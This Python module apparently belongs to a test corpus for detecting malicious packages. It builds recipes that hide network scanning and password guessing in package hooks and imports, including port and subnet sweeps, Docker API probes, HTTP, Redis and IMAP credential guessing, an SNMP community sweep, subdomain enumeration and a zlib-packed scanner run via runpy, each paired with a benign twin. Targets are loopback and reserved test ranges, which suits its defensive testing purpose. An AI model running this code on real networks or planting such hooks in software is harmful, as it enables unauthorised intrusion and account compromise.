"""T34: scans a network and tries passwords (MITRE ATT&CK T1046, T1110.001, T1110.003).

Known from the copy of mlflow-ui, from worms that look for open Docker and Redis services in the
subnet, and from packages that try a list of passwords against routers or mailboxes. Everything tried
is loopback or TEST-NET, where nobody is; passwords are made up. The twins ask one port, take a free
one, or talk to a server of their own, as wrappers of scanners and pickers of ports do.
"""

from __future__ import annotations

import zlib

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe
from tests.corpus.recipes.blind.layouts import (
    IN_CI,
    MAIN,
    back_end,
    command,
    hook,
    package,
    setup,
    submodule,
)

PORTS = """
import concurrent.futures

PORTS = (21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1521, 2375, 3306,
         3389, 5000, 5432, 5900, 5984, 6379, 8000, 8080, 8443, 8888, 9000, 9200, 11211, 15672, 27017)

def _open(place):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as link:
        link.settimeout(1)
        return place[1] if link.connect_ex(place) == 0 else None
"""
PORTS_SCAN = """
with concurrent.futures.ThreadPoolExecutor(16) as pool:
    found = list(filter(None, pool.map(_open, [("127.0.0.1", port) for port in PORTS])))
return found
"""
PORTS_PICK = """
with socket.socket() as server, concurrent.futures.ThreadPoolExecutor(1) as pool:
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    return pool.submit(_open, server.getsockname()).result(), len(PORTS)
"""

SUBNET = """
import asyncio, ipaddress, json

async def _banner(host, port, limit):
    async with limit:
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 1.5)
            writer.write(b"GET /containers/json HTTP/1.0\\r\\n\\r\\n")
            text = await asyncio.wait_for(reader.read(64), 1.5)
            writer.close()
            return host, port, text.decode("latin-1")
        except (OSError, asyncio.TimeoutError):
            return None

async def _sweep(hosts, ports):
    limit = asyncio.Semaphore(40)
    tasks = [_banner(str(host), port, limit) for host in hosts for port in ports]
    return list(filter(None, await asyncio.gather(*tasks)))
"""
SUBNET_SCANS = """
hosts = list(ipaddress.ip_network("192.0.2.0/26").hosts())
print(json.dumps(asyncio.run(_sweep(hosts, (2375, 2376, 10250)))))
"""
SUBNET_ASKS = """
hosts = [ipaddress.ip_address("127.0.0.1")]
print(json.dumps(asyncio.run(_sweep(hosts, (2375,)))))
"""

SHELL = """
LINE = '''
for p in $1; do (timeout 1 bash -c "echo >/dev/tcp/$0/$p") 2>/dev/null && echo $p; done
nc -z -w 1 $0 22
'''

def _bash(host, ports):
    try:
        words = ["bash", "-c", LINE, host, " ".join(str(port) for port in ports)]
        return subprocess.run(words, capture_output=True, text=True, timeout=18).stdout.split()
    except (OSError, subprocess.SubprocessError):
        return []
"""
SHELL_SCANS = """
_bash("127.0.0.1", range(8000, 8040))
_bash("127.0.0.1", (22, 80, 443, 3306, 5432, 6379, 9200, 27017))
"""
SHELL_ASKS = """
try:
    subprocess.run(["bash", "-n", "-c", LINE], capture_output=True, text=True, timeout=5)
except (OSError, subprocess.SubprocessError):
    pass
return callable(_bash)
"""

LOGIN = """
import base64, http.client, itertools

USERS = ("admin", "root", "user", "support")
WORDS = ("admin", "password", "123456", "reenact", "letmein", "changeme", "toor", "welcome1")

def _try(host, port, user, word):
    basic = base64.b64encode(f"{user}:{word}".encode()).decode()
    link = http.client.HTTPConnection(host, port, timeout=2)
    try:
        link.request("GET", "/manager/html", headers={"Authorization": f"Basic {basic}"})
        return link.getresponse().status
    except (OSError, http.client.HTTPException):
        return 0
    finally:
        link.close()
"""
LOGIN_FORCES = """
misses = 0
for user, word in itertools.product(USERS, WORDS):
    status = _try("198.51.100.134", 8080, user, word)
    misses = misses + 1 if status == 0 else 0
    if misses > 4:
        break
"""
LOGIN_COUNTS = """
strengths = {word: len(set(word)) for _, word in itertools.product(USERS, WORDS)}
return base64.b64encode(repr(strengths).encode()), http.client.responses[401], callable(_try)
"""

SWEEP = """
import selectors, time

NAMES = (b"public", b"private", b"manager", b"reenact")

def _question(community):
    get = bytes.fromhex("a019020101020100020100300e300c06082b060102010101000500")
    inner = b"\\x02\\x01\\x01\\x04" + bytes([len(community)]) + community + get
    return b"\\x30" + bytes([len(inner)]) + inner
"""
SWEEP_ASKS_ALL = """
link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
link.setblocking(False)
chosen, heard = selectors.DefaultSelector(), []
chosen.register(link, selectors.EVENT_READ)
for last in range(1, 61):
    for name in NAMES:
        try:
            link.sendto(_question(name), (f"203.0.113.{last}", 161))
        except OSError:
            continue
end = time.monotonic() + 2
while time.monotonic() < end and len(heard) < 500:
    for _ in chosen.select(0.2):
        try:
            heard.append(link.recvfrom(512))
        except OSError:
            break
link.close()
"""
SWEEP_ASKS_ITSELF = """
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", 0))
link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
link.sendto(_question(NAMES[0]), server.getsockname())
chosen = selectors.DefaultSelector()
chosen.register(server, selectors.EVENT_READ)
got = [server.recv(512) for _ in chosen.select(1)]
server.close()
link.close()
return got, time.monotonic()
"""

STORES = """
import errno, select

WORDS = ("redis", "foobared", "reenact", "secret", "p@ssw0rd", "master")

def _reach(places, wait=2.0):
    links = {}
    for place in places:
        link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        link.setblocking(False)
        if link.connect_ex(place) in (0, errno.EINPROGRESS):
            links[link.fileno()] = link
        else:
            link.close()
    poll = select.poll()
    for handle in links:
        poll.register(handle, select.POLLOUT)
    ready = [links[handle] for handle, event in poll.poll(wait * 1000) if event & select.POLLOUT]
    for link in links.values():
        if link not in ready:
            link.close()
    return [link for link in ready if link.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0]
"""
STORES_FORCE = """
for link in _reach([(f"198.51.100.{last}", 6379) for last in range(1, 49)]):
    try:
        for word in WORDS:
            link.send(f"*2\\r\\n$4\\r\\nAUTH\\r\\n${len(word)}\\r\\n{word}\\r\\n".encode())
        link.send(b"INFO\\r\\n")
    except OSError:
        pass
    link.close()
"""
STORES_TRY = """
server = socket.create_server(("127.0.0.1", 0))
for link in _reach([server.getsockname()]):
    link.send(b"*1\\r\\n$4\\r\\nPING\\r\\n")
    link.close()
server.close()
return len(WORDS)
"""

WORDS = """
def _words():
    names = "www mail remote vpn git ci jenkins grafana ldap intranet db backup dev stage proxy ns1"
    return [f"{name}{number}" for name in names.split() for number in ("", "1", "-old")]

def _find(names, zone):
    found = {}
    for name in names:
        try:
            found[name] = socket.getaddrinfo(f"{name}.{zone}", None, socket.AF_INET)[0][4][0]
        except OSError:
            continue
    return found
"""
WORDS_ALL = """
host = str(given[0])
if not host.endswith(".reenact.test"):
    host = "corp.reenact.test"
found = _find(_words(), host)
reached = []
for name, address in list(found.items())[:48]:
    with socket.socket() as link:
        link.settimeout(0.5)
        if address.startswith(("127.", "192.0.2.", "198.51.100.", "203.0.113.")):
            reached.append(link.connect_ex((address, 22)))
return found, reached
"""
WORDS_ONE = """
host = str(given[0])
if not host.endswith(".reenact.test"):
    host = "corp.reenact.test"
return _find(["www"], host), len(_words())
"""
WORDS_TAIL = """
def explore(zone="corp.reenact.test"):
    if ACT:
        return THE_ACT(zone)
"""

MAILBOX = """
import ssl

SEASONS = ("Spring", "Summer", "Autumn", "Winter", "Reenact")
WORDS = [name + str(year) for name in SEASONS for year in range(2020, 2026)]

def _login(host, port, user, word):
    try:
        with socket.create_connection((host, port), timeout=2) as link:
            text = f"a1 LOGIN {user} {word}\\r\\na2 LOGOUT\\r\\n"
            link.sendall(text.encode())
            link.shutdown(socket.SHUT_WR)
            return link.recv(128)
    except OSError:
        return None
"""
MAILBOX_FORCES = """
misses = 0
for word in WORDS:
    misses += _login("192.0.2.143", 143, "info@reenact.test", word) is None
    if misses > 4:
        break
"""
MAILBOX_COUNTS = """
return max(map(len, WORDS)), ssl.OPENSSL_VERSION_INFO, callable(_login), "info@reenact.test", 143
"""

SCAN = """
import contextlib, socket

def reach(host, ports, wait=0.3):
    found = []
    for port in ports:
        with contextlib.closing(socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)) as link:
            link.settimeout(wait)
            if link.connect_ex((host, port)) == 0:
                found.append(port)
    return found
"""
RESOURCE = """
import runpy, tempfile, zlib

def _reach():
    packed = pathlib.Path(__file__).with_name("theme.bin").read_bytes()
    with tempfile.NamedTemporaryFile(suffix=".py") as file:
        file.write(zlib.decompress(packed))
        file.flush()
        return runpy.run_path(file.name)["reach"]
"""
RESOURCE_SCANS = """
reach = _reach()
return reach("127.0.0.1", range(3000, 3060)), reach("::1", (22, 631, 3128, 5432, 8080))
"""
RESOURCE_ASKS = """
reach = _reach()
return reach("127.0.0.1", [631]), len("::1")
"""

RECIPES = (
    Recipe(
        technique="T34",
        name="loopback-ports",
        phase=Phase.IMPORT,
        channel=Channel.TCP,
        encoding=Encoding.NONE,
        files=package(acting(PORTS_SCAN, PORTS_PICK, head=PORTS)),
        twin_does="takes a free port and connects to itself",
    ),
    Recipe(
        technique="T34",
        name="subnet-banners",
        phase=Phase.USE,
        channel=Channel.TCP,
        encoding=Encoding.PLAIN,
        files=command(acting(SUBNET_SCANS, SUBNET_ASKS, MAIN, SUBNET)),
        twin_does="asks one port of the machine it is on",
    ),
    Recipe(
        technique="T34",
        name="shell-tcp",
        phase=Phase.INSTALL,
        channel=Channel.PROCESS,
        encoding=Encoding.NONE,
        kind=Kind.SDIST,
        files=setup(SHELL_SCANS, SHELL_ASKS, SHELL),
        twin_does="has a shell check a line and does not run it",
    ),
    Recipe(
        technique="T34",
        name="basic-passwords",
        phase=Phase.IMPORT,
        channel=Channel.HTTP,
        encoding=Encoding.BASE64,
        files=submodule("manager", acting(LOGIN_FORCES, LOGIN_COUNTS, head=LOGIN)),
        twin_does="measures how strong some passwords are",
    ),
    Recipe(
        technique="T34",
        name="snmp-sweep",
        phase=Phase.WAIT,
        channel=Channel.UDP,
        encoding=Encoding.HEX,
        files=package(acting(SWEEP_ASKS_ALL, SWEEP_ASKS_ITSELF, IN_CI, SWEEP)),
        twin_does="sends a question to itself, on a build server",
    ),
    Recipe(
        technique="T34",
        name="store-passwords",
        phase=Phase.START,
        channel=Channel.TCP,
        encoding=Encoding.PIECES,
        files=hook(acting(STORES_FORCE, STORES_TRY, head=STORES)),
        twin_does="reaches a server of its own",
    ),
    Recipe(
        technique="T34",
        name="name-list",
        phase=Phase.USE,
        channel=Channel.DNS,
        encoding=Encoding.LABELS,
        files=package(acting(WORDS_ALL, WORDS_ONE, WORDS_TAIL, WORDS)),
        twin_does="looks up one name when asked to",
    ),
    Recipe(
        technique="T34",
        name="mailbox-passwords",
        phase=Phase.INSTALL,
        channel=Channel.TCP,
        encoding=Encoding.PLAIN,
        kind=Kind.SDIST,
        files=back_end(MAILBOX_FORCES, MAILBOX_COUNTS, MAILBOX),
        twin_does="measures a list of words",
    ),
    Recipe(
        technique="T34",
        name="run-path-scan",
        phase=Phase.IMPORT,
        channel=Channel.TCP,
        encoding=Encoding.ZLIB,
        files={
            **submodule("theme", acting(RESOURCE_SCANS, RESOURCE_ASKS, head=RESOURCE)),
            "THE_MODULE/theme.bin": zlib.compress(SCAN.encode()),
        },
        twin_does="asks whether a print server runs on this machine",
    ),
)
